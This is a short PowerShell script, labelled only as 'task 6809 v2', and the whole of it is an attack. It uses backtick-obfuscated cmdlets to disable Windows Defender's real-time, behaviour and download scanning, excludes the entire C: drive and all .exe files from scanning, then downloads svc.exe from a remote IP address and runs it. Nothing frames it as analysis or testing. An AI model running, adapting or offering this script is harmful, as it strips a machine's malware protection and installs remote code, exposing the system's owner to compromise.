# task 6809 v2
Set-M`p`Preference -DisableRealtimeMonitoring $true -DisableBehaviorMonitoring $true -DisableIOAVProtection $true
Ad`d-`M`p`Preference -ExclusionPath 'C:\'
A`dd-M`pPreference -ExclusionExtension '.exe'
(Ne`w-Ob`ject Net.WebC`l`ient).DownloadFile('http://198.51.100.9/svc.exe', "$env:TEMP\svc.exe")
Start-`Pr`o`cess "$env:TEMP\svc.exe"
